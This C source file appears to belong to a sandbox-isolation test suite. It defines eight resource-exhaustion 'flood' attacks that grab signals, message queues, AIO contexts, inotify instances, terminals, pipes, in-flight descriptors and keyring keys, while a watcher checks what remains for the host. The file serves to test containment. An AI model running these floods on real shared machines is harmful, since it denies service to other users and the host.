/* Takes as much as it gets of what the kernel counts for a user or for the whole machine, and holds it
 * while the watcher checks what is left for the host. In the weakened place a little is enough. */
#define _GNU_SOURCE
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <mqueue.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct finding took(long count, const char *what) { return holding(tried("took %ld %s", count, what)); }

static long amount(long inside, long weak) { return in_weak_place() ? weak : inside; }

static void allow_files(void) {
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
}

static struct finding signals(const void *with) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  long count = 0;
  while (count < amount(20000, 400) && !sigqueue(getpid(), SIGRTMIN, (union sigval){0})) count++;
  return took(count, "queued signals");
}

static struct finding queues(const void *with) {
  struct mq_attr attr = {.mq_maxmsg = 10, .mq_msgsize = 8192};
  long count = 0;
  for (char name[64]; count < 200; count++) {
    snprintf(name, sizeof name, "/attack-%d-%ld", getpid(), count);
    if (mq_open(name, O_CREAT | O_RDWR, 0600, &attr) < 0) break;
    mq_unlink(name);
  }
  return took(count, "message queues");
}

static struct finding aio(const void *with) {
  long count = 0;
  for (unsigned long context = 0; count < amount(200, 4) && !syscall(SYS_io_setup, 64, &context); count++) context = 0;
  return took(count, "contexts of asynchronous I/O");
}

static struct finding watches(const void *with) {
  allow_files();
  long count = 0;
  while (count < amount(10000, 100) && inotify_init1(0) >= 0) count++;
  return took(count, "inotify instances");
}

/* Judged here: of 4,096 that the kernel has, one environment may not have most. */
static struct finding terminals(const void *with) {
  allow_files();
  long count = 0;
  while (count <= 1100 && open("/dev/pts/ptmx", O_RDWR | O_NOCTTY) >= 0) count++;
  return count > 1024 ? succeeded("took %ld terminals", count) : refused("no more than %ld terminals", count);
}

static struct finding pipes(const void *with) {
  allow_files();
  long count = 0;
  for (int ends[2]; count < amount(1500, 10) && !pipe(ends);) count++;
  return took(count, "pipes");
}

static bool send_descriptor(int over, int fd) {
  char control[CMSG_SPACE(sizeof(int) * 200)] = {0}, byte = 0;
  struct iovec data = {&byte, 1};
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *head = CMSG_FIRSTHDR(&message);
  *head = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(int) * 200)};
  for (int i = 0; i < 200; i++) memcpy(CMSG_DATA(head) + i * (int)sizeof fd, &fd, sizeof fd);
  return sendmsg(over, &message, MSG_DONTWAIT) == 1;
}

static struct finding in_flight(const void *with) {
  allow_files();
  long count = 0;
  int null = open("/dev/null", O_RDONLY);
  for (int pair[2]; count < amount(20000, 200) && !socketpair(AF_UNIX, SOCK_STREAM, 0, pair);) {
    long before = count;
    while (count < amount(20000, 200) && send_descriptor(pair[0], null)) count += 200;
    if (count == before) break;
  }
  return took(count, "descriptors in flight");
}

static struct finding keys(const void *with) {
  long count = 0;
  for (char name[32]; count < 50; count++) {
    snprintf(name, sizeof name, "attack-%ld", count);
    if (syscall(SYS_add_key, "user", name, "x", 1, -2 /* the process's own keyring */) < 0) break;
  }
  return count ? succeeded("made %ld keys", count) : refused("add_key: %s", strerrorname_np(errno));
}

static const struct attack attacks[] = {
    {"flood-signals", signals},
    {"flood-queues", queues},
    {"flood-aio", aio},
    {"flood-inotify", watches},
    {"flood-terminals", terminals},
    {"flood-pipes", pipes},
    {"flood-in-flight", in_flight},
    {"flood-keys", keys},
};
SUBJECT(flood_attacks, attacks);
